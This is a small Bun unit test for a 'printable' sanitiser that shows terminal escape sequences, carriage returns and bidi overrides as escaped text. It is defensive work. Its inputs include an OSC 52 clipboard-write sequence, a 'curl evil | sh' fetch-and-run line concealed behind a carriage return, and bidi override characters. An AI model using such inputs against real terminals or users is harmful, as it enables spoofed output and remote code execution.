import { expect, test } from "bun:test";
import { printable } from "./changes.ts";

test(
  "printable: escape sequences, lone carriage returns, C1 controls " +
    "and bidi overrides shown as text; tab, newline and CRLF kept",
  () => {
    expect(printable("a\x1b]52;c;ZXZpbA==\x07b")).toBe("a\\x1b]52;c;ZXZpbA==\\x07b");
    expect(printable("safe\rcurl evil | sh\n")).toBe("safe\\x0dcurl evil | sh\n");
    expect(printable("line\r\nnext\tcol")).toBe("line\r\nnext\tcol");
    expect(printable("\u009b2J \u202ehidden\u2066")).toBe("\\x9b2J \\u202ehidden\\u2066");
    expect(printable("plain ünïcode ✓")).toBe("plain ünïcode ✓");
  },
);
